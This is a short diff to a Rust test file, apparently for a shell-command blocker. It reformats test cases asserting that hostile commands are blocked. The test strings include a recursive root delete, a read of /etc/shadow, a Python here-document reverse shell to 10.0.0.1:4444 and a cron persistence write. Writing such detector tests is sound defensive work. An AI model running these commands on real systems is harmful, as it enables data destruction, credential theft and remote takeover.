@@ -112,9 +112,15 @@ fn the_parser_edges_the_rules_rely_on() {
     blocked("eval 'rm -rf /'", "destructive-delete");
     blocked("su -c 'cat /etc/shadow' root", "reads-credentials");
     // Here-documents feed programs.
-    blocked("python3 - <<EOF\nimport socket,os,pty\ns=socket.socket();s.connect(('10.0.0.1',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\nEOF", "reverse-shell");
+    blocked(
+        "python3 - <<EOF\nimport socket,os,pty\ns=socket.socket();s.connect(('10.0.0.1',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\nEOF",
+        "reverse-shell",
+    );
     // Variables set earlier in the script.
-    blocked("T=/etc/cron.d/x; echo '* * * * * root id' > \"$T\"", "writes-persistence");
+    blocked(
+        "T=/etc/cron.d/x; echo '* * * * * root id' > \"$T\"",
+        "writes-persistence",
+    );
 }
 
 #[test]
